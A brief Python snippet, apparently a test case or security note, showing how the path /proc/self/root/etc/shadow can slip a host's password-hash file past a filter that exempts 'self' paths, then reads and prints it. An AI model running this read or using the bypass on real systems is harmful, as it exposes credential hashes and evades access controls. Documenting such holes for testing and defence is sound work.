# /proc/self/root is this process' own root directory, so the "other than
# self" exception lets a host secret through under a different spelling.
with open("/proc/self/root/etc/shadow") as fh:
    print(fh.read())
